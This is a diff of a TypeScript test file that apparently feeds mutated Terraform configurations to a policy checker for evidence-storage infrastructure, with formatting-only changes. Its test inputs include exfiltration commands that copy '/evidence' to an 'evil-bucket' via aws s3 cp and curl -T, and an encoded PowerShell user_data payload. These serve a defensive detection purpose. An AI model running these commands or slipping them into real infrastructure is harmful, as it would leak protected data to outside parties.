@@ -98,22 +98,26 @@ const judged: readonly Mutation[] = [
     "user_data",
     Buffer.from(`powershell -e ${Buffer.from(`$r = "${FOREIGN}"`, "utf16le").toString("base64")}`).toString("base64"),
   ),
-  ...["aws s3 cp /evidence s3://evil-bucket/", "curl -T /evidence https://evil-bucket.s3.amazonaws.com/x"].map((script) =>
-    set("residency/buckets", TEMPLATE, "user_data", Buffer.from(script).toString("base64")),
+  ...["aws s3 cp /evidence s3://evil-bucket/", "curl -T /evidence https://evil-bucket.s3.amazonaws.com/x"].map(
+    (script) => set("residency/buckets", TEMPLATE, "user_data", Buffer.from(script).toString("base64")),
   ),
 ];
 
 const made: readonly Mutation[] = [
-  set("residency/provisioners", "aws_instance.workstation_machine", "provisioner", [{ "local-exec": { command: "x" } }]),
+  set("residency/provisioners", "aws_instance.workstation_machine", "provisioner", [
+    { "local-exec": { command: "x" } },
+  ]),
   set("residency/provisioners", TRAIL, "provisioner", { "remote-exec": { inline: ["x"] } }),
   set("residency/provisioners", TOPIC, "connection", { host: "x" }),
-  ...["extra.tf", "x_override.tf.json", "terraform.tfvars", "a.auto.tfvars.json", "extra.tofu"].map((name): Mutation => ({
-    rule: "residency/files",
-    stack: VAULT,
-    what: `+ ${name}`,
-    beside: [name],
-    change: () => undefined,
-  })),
+  ...["extra.tf", "x_override.tf.json", "terraform.tfvars", "a.auto.tfvars.json", "extra.tofu"].map(
+    (name): Mutation => ({
+      rule: "residency/files",
+      stack: VAULT,
+      what: `+ ${name}`,
+      beside: [name],
+      change: () => undefined,
+    }),
+  ),
   ...["all", ["policy"], ["tags", "policy"]].map((value) =>
     set("immutability/ignored-changes", "aws_s3_bucket_policy.evidence_incoming_policy", "lifecycle", {
       prevent_destroy: true,
@@ -176,7 +180,10 @@ const masked: readonly Mutation[] = [
   add("isolation/routes", "aws_route_table", {
     route: [{ cidr_block: "0.0.0.0/0", gateway_id: "${data.aws_internet_gateway.x.id}" }],
   }),
-  ...[{ egress: "true", cidr_block: "0.0.0.0/0" }, { egress: true, cidr_block: "banana" }].map((values) =>
+  ...[
+    { egress: "true", cidr_block: "0.0.0.0/0" },
+    { egress: true, cidr_block: "banana" },
+  ].map((values) =>
     add("isolation/network-acls", "aws_network_acl_rule", {
       protocol: "tcp",
       from_port: 1024,
